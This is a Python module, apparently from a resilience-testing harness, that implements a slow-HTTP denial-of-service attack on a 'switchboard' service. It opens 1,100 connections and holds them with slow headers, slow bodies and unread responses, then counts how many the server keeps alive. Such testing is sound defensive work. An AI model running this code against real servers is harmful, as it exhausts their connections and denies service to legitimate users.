"""Connections that are held by doing next to nothing: slow heads, slow bodies, answers that are never read."""

import resource
import socket
import time
from collections.abc import Callable

from tools.target import HOST, Attack, Outcome, Target
from tools.wire import connect, held_by_server

SECONDS = 70
CONNECTIONS = 1_100
# As often as a slow connection says something.
PAUSE = 4


def slow_head(stream: socket.socket) -> int:
    return send(stream, f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ".encode())


def slow_body(stream: socket.socket) -> int:
    return send(stream, f"POST /any HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000000\r\n\r\n".encode())


def refused_body(stream: socket.socket) -> int:
    return send(
        stream,
        f"POST /switchboard/v1/users HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
        "Content-Length: 1000000\r\n\r\n{".encode(),
    )


def unread_answer(stream: socket.socket) -> int:
    return send(stream, f"GET /sdk/switchboard-calling.js HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode() * 40)


# Each with whether it goes on sending a byte now and then.
KINDS: dict[str, tuple[Callable[[socket.socket], int], bool]] = {
    "slow head": (slow_head, True),
    "slow body": (slow_body, True),
    "refused body sent slowly": (refused_body, True),
    "answer never read": (unread_answer, False),
}


def send(stream: socket.socket, data: bytes) -> int:
    """How many bytes the kernel took; none from a connection that has ended."""
    try:
        return stream.send(data)
    except OSError:
        return 0


def run(target: Target) -> Outcome:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    outcome = Outcome()
    held: dict[str, list[socket.socket]] = {kind: [] for kind in KINDS}
    began, refused = time.monotonic(), 0
    for number in range(CONNECTIONS):
        kind = list(KINDS)[number % len(KINDS)]
        try:
            stream = connect(target.http_port, receive_buffer=4096)
        except OSError:
            refused += 1
            continue
        stream.setblocking(False)
        held[kind].append(stream)
        outcome.sent_bytes += KINDS[kind][0](stream)
    ports = {kind: {one.getsockname()[1] for one in streams} for kind, streams in held.items()}
    looks = iter((10, 30, SECONDS - 1))
    look, next_byte = next(looks), began + PAUSE
    while time.monotonic() < began + SECONDS:
        time.sleep(0.2)
        if time.monotonic() > next_byte:
            next_byte += PAUSE
            for kind, (_, goes_on) in KINDS.items():
                outcome.sent_bytes += sum(send(one, b" ") for one in held[kind] if goes_on)
        if time.monotonic() > began + look:
            counts = {kind: held_by_server(target.http_port, numbers) for kind, numbers in ports.items()}
            each = ", ".join(f"{kind} {count}" for kind, count in counts.items())
            outcome.findings.append(f"held after {look} s: {sum(counts.values())} of {CONNECTIONS}")
            outcome.details.append(f"held after {look} s: {each}")
            look = next(looks, 1 << 30)
    if refused:
        outcome.findings.append(f"{refused} were not even connected")
    return outcome


ATTACKS = {
    "slow-http": Attack(
        "1,100 slow requests and unread answers, 1,024 descriptors", "anybody, one address", SECONDS, run,
        descriptors=1024,
    )
}  # fmt: skip
